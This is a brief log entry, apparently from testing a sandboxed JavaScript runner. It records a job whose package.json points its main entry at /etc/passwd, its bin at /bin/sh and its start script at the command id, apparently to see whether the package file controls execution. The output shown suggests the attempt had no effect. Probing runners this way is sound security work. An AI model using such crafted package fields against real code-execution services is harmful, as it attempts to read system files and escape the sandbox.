// exploit: lets its package file say what is to be run, and how
// outcome: finished
// job: {"files":[{"path":"main.js","content":"console.log(typeof require, process.execArgv.join())"},{"path":"package.json","content":"{\"main\":\"/etc/passwd\",\"bin\":\"/bin/sh\",\"scripts\":{\"start\":\"id\"},\"type\":\"commonjs\",\"nodeVersion\":\"1\"}"}],"entry":"main.js"}
// says: function --max-old-space-size
